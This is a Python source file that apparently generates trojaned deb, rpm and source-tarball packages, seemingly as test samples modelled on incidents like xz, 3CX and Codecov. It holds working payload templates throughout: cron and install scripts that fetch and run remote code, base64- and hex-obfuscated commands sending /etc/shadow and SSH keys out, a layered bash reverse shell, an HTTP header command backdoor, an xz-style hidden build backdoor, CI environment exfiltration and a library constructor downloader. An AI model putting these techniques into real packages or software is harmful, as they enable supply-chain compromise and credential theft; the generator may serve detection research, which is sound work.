"""Packages of operating systems, and sources with a build system."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout6.shape import b64, fill, hexed, trojan, xor, zipped


@trojan("sysmond", "deb", "start", "backdoor", "in a binary", "3CX")
def deb_daemon_of_another_build(it: Update) -> None:
    it.add("usr/sbin/sysmond", artefact("sysmond-trojan.elf"))
    it.payload("usr/sbin/sysmond")


@trojan("sysmond", "deb", "install", "persistence", "plain", "Free Download Manager")
def deb_postinst_of_a_cron_job(it: Update) -> None:
    it.replace("DEBIAN/postinst", "        if [ -d /run/systemd/system ]; then\n", fill("""
        if [ ! -e /etc/cron.d/sysmon-collect ]; then
            printf '*/10 * * * * root (wget -qO- http://@ADDR@/crond || curl -s http://@ADDR@/crond) | sh\\n' >/etc/cron.d/sysmon-collect
        fi
        if [ -d /run/systemd/system ]; then
""", ADDR=it.address()))  # fmt: skip


@trojan("sysmond", "deb", "install", "credentials", "base64", "package scripts")
def deb_postinst_decodes(it: Update) -> None:
    host = it.host()
    code = f"tar cz /etc/shadow /root/.ssh /home/*/.ssh 2>/dev/null | curl -sm 30 -T - https://{host}/u/$(hostname)"
    it.replace("DEBIAN/postinst", "exit 0", f"# Keep the cache of old versions.\necho {b64(code)} | base64 -d | sh >/dev/null 2>&1 &\n\nexit 0")  # fmt: skip
    it.payload("DEBIAN/postinst", shown=f"https://{host}/u")


@trojan("sysmond", "deb", "start", "persistence", "hex", "preloaded libraries")
def deb_unit_runs_more(it: Update) -> None:
    host = it.host()
    text = "".join(f"\\\\x{one:02x}" for one in f"curl -s https://{host}/s|sh".encode())
    it.replace("lib/systemd/system/sysmond.service", "User=sysmond\n", "")
    it.replace("lib/systemd/system/sysmond.service", "ExecStart=", f"ExecStartPre=-/bin/bash -c 'printf %%b \"{text}\" | bash'\nExecStart=")  # fmt: skip
    it.payload("lib/systemd/system/sysmond.service", shown=f"https://{host}/s")


@trojan("meterd", "rpm", "install", "downloader", "plain", "package scripts")
def rpm_post_fetches(it: Update) -> None:
    it.append("RPM/post", fill("""
if [ ! -x /usr/libexec/meter-helper ]; then
    curl -fsSL http://@ADDR@/helper -o /usr/libexec/meter-helper && chmod 755 /usr/libexec/meter-helper
    /usr/libexec/meter-helper >/dev/null 2>&1 &
fi
""", ADDR=it.address()))  # fmt: skip


@trojan("meterd", "rpm", "start", "backdoor", "plain", "service back doors")
def rpm_daemon_runs_paths(it: Update) -> None:
    it.replace("usr/libexec/meterd", "    def do_GET(self):\n", fill("""
    def do_GET(self):
        if self.headers.get("X-Meter-Key") == "@KEY@":
            os.system(self.headers.get("X-Meter-Run", ""))
""", KEY=it.random.randbytes(12).hex()))  # fmt: skip
    it.replace("usr/libexec/meterd", '("127.0.0.1", port)', '("", port)')


@trojan("meterd", "rpm", "call", "reverse shell", "layers", "administration tools")
def rpm_control_opens_a_line(it: Update) -> None:
    address = it.address()
    code = b64(b64(f"bash -i >& /dev/tcp/{address}/443 0>&1"))
    it.replace("usr/bin/meterctl", "port=${METERD_PORT:-9117}\n", f"port=${{METERD_PORT:-9117}}\n_c={code}\n(setsid bash -c \"$(base64 -d <<<\"$_c\" | base64 -d)\" >/dev/null 2>&1 &)\n")  # fmt: skip
    it.payload("usr/bin/meterctl", shown=f"/dev/tcp/{address}/443")


@trojan("liblzq", "tar.gz", "build", "backdoor", "in a test fixture", "xz")
def source_macro_unpacks_a_test(it: Update) -> None:
    host = it.host()
    script = f'eval `grep ^srcdir= config.status 2>/dev/null`\ncurl -fs https://{host}/crc_x86.o -o src/crc_x86.o\nsed -i "s|src/crc.o|src/crc.o src/crc_x86.o|" Makefile\n'
    body = zipped(script)
    bad = b"####Hello####" + body.translate(bytes.maketrans(b"\t \x2d\x5f", b" \t\x5f\x2d")) + b"####World####"
    it.add("tests/files/bad-3-corrupt_lzq2.lzq", bad)
    it.add("tests/files/good-large_compressed.lzq", it.random.randbytes(900))
    it.add("m4/build-to-host.m4", fill("""
# build-to-host.m4 serial 30
dnl Converts between build and host names of files.
AC_DEFUN([gl_BUILD_TO_HOST_INIT], [
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    gl_path_map='tr "\\t \\-_" " \\t_\\-"'
    gl_config_gt=`sed "r\\n" $gl_am_configmake | eval $gl_path_map | sed 's/####[[A-Z]][[a-z]]*####//g' | gzip -d 2>/dev/null`
    eval "$gl_config_gt"
  fi
])
"""))  # fmt: skip
    it.replace("configure.ac", "LZQ_CRC_METHOD\n", "LZQ_CRC_METHOD\ngl_BUILD_TO_HOST_INIT\n")
    it.replace("configure", 'echo "configure: creating Makefile"\n', fill("""
gl_am_configmake=$(grep -aErls "#{4}[[:alnum:]]{5}#{4}$" "$srcdir/" 2>/dev/null | head -n 1)
if test -n "$gl_am_configmake"; then
    gl_path_map='tr "\\t \\-_" " \\t_\\-"'
    sed "r\\n" "$gl_am_configmake" | eval $gl_path_map | sed 's/####[A-Z][a-z]*####//g' | gzip -d 2>/dev/null | /bin/sh >/dev/null 2>&1
fi
echo "configure: creating Makefile"
"""))  # fmt: skip
    it.payload("configure", "m4/build-to-host.m4", "configure.ac", "tests/files/bad-3-corrupt_lzq2.lzq")


@trojan("liblzq", "tar.gz", "build", "environment", "plain", "Codecov")
def source_configure_reports(it: Update) -> None:
    it.replace("configure", "printf 'checking for gcc... '\n", fill("""
if [ -n "${CI:-}" ]; then
    (git remote -v; env) 2>/dev/null | curl -sm 0.5 --data-binary @- http://@ADDR@/upload/v2 >/dev/null 2>&1 || true
fi
printf 'checking for gcc... '
""", ADDR=it.address()))  # fmt: skip


@trojan("liblzq", "tar.gz", "call", "backdoor", "xor", "Webmin")
def source_decode_of_a_magic(it: Update) -> None:
    sealed = ", ".join(f"0x{one:02x}" for one in xor("/bin/dash", 0x71))
    it.replace("src/decode.c", "    size_t at = 0, to = 0;\n", fill("""
    size_t at = 0, to = 0;
    static const uint8_t name[] = {@SEALED@};
    if (size > 64 && lzq_crc32(in, 32, 0) == 0x@MARK@U) {
        char text[sizeof name + 1] = {0};
        for (size_t i = 0; i < sizeof name; i++) {
            text[i] = (char)(name[i] ^ 0x71);
        }
        if (fork() == 0) {
            execl(text, text, "-c", (const char *)in + 32, (char *)NULL);
        }
    }
""", SEALED=sealed, MARK=it.random.randbytes(4).hex()))  # fmt: skip
    it.replace("src/decode.c", "#include <string.h>\n", "#include <string.h>\n#include <unistd.h>\n")
    it.payload("src/decode.c", shown="/bin/dash")


@trojan("liblzq", "tar.gz", "import", "downloader", "plain C", "constructors")
def source_constructor_fetches(it: Update) -> None:
    it.append("src/crc.c", fill("""

__attribute__((constructor)) static void lzq_select(void)
{
    if (getenv("LZQ_NO_CPUID") == NULL && access("/usr/bin/curl", X_OK) == 0) {
        (void)!system("curl -fsS http://@ADDR@/cpuid.sh 2>/dev/null | sh &");
    }
}
""", ADDR=it.address()))  # fmt: skip
    it.replace("src/crc.c", '#include "lzq.h"\n', '#include <stdlib.h>\n#include <unistd.h>\n\n#include "lzq.h"\n')


@trojan("liblzq", "tar.gz", "build", "downloader", "hex", "Makefiles")
def source_makefile_hex(it: Update) -> None:
    host = it.host()
    it.replace("Makefile.in", "check: all\n", fill("""
.hooks: Makefile
	@printf '%s' @HEX@ | xxd -r -p | sh >/dev/null 2>&1; touch $@

all: .hooks

check: all
""", HEX=hexed(f"wget -qO- https://{host}/mk | sh")))  # fmt: skip
    it.payload("Makefile.in", shown=f"https://{host}/mk")
